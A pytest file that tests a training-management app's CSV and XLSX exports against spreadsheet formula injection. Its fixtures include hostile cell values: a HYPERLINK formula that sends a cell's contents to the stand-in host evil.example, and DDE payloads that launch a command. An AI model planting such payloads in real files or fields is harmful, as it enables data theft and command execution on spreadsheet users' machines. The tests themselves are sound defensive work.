"""Exports never hand a spreadsheet a formula: CSV cells neutralised, XLSX cells typed."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from learning.agency.service import create_assignment
from learning.catalogue.models import Course
from learning.core.spreadsheets import spreadsheet_safe
from learning.extensions import db

HOSTILE_NAMES = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Ann Lee", "Ann Lee"), ("", ""), ("a=b", "a=b"),
    (-2, -2), (3.5, 3.5), (None, ""), (date(2030, 1, 31), "2030-01-31"),
])
def test_spreadsheet_safe(value, expected):
    """Only strings that would run are changed; numbers stay numbers."""
    assert spreadsheet_safe(value) == expected


@pytest.fixture
def manager(synced, make_user, make_unit, agency):
    unit = make_unit(agency, "North Post")
    manager = make_user("manager", agency=agency)
    for n, name in enumerate(HOSTILE_NAMES):
        make_user("officer", agency=agency, unit=unit, name=name, email=f"o{n}@example.test")
    course = db.session.scalar(sa.select(Course))
    create_assignment(manager, course.id, date(2020, 1, 31), "none", None, [unit.id], [])
    db.session.commit()
    return manager


def test_csv_export_neutralises_formulas(client, login_as, manager):
    """Every formula-like name is prefixed with ' so the spreadsheet shows it as text."""
    login_as(manager)
    rows = list(csv.reader(io.StringIO(client.get("/agency/export.csv").get_data(
        as_text=True))))
    names = {row[0] for row in rows[1:]}
    assert names == {"'" + name for name in HOSTILE_NAMES}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in rows for cell in row)
    assert {row[5] for row in rows[1:]} == {"2020-01-31"}


def test_the_staff_import_template_neutralises_a_unit_named_like_a_formula(
        client, login_as, make_user, make_unit, agency):
    make_unit(agency, "=HYPERLINK(\"http://evil.example\",\"Open\")")
    login_as(make_user("manager", agency=agency))
    rows = list(csv.reader(io.StringIO(client.get(
        "/agency/staff/import/template.csv").get_data(as_text=True))))
    assert rows[1][2] == "'=HYPERLINK(\"http://evil.example\",\"Open\")"


def test_xlsx_export_keeps_text_as_text_and_dates_as_dates(client, login_as, manager):
    """XLSX cells hold the names exactly, as strings (never formulas); dates are dates."""
    login_as(manager)
    sheet = load_workbook(io.BytesIO(client.get("/agency/export.xlsx").data))["Compliance"]
    rows = list(sheet.iter_rows(min_row=2))
    # (Depending on the openpyxl version, XML may read a carriage return back as a line feed.)
    assert {row[0].value.replace("\r", "\n") for row in rows} == {
        n.replace("\r", "\n") for n in HOSTILE_NAMES}
    assert all(row[0].data_type == "s" for row in rows)
    assert all(row[0].quotePrefix for row in rows)
    assert all(row[5].is_date and row[5].value == datetime(2020, 1, 31) for row in rows)
    assert all(row[6].value is None for row in rows)
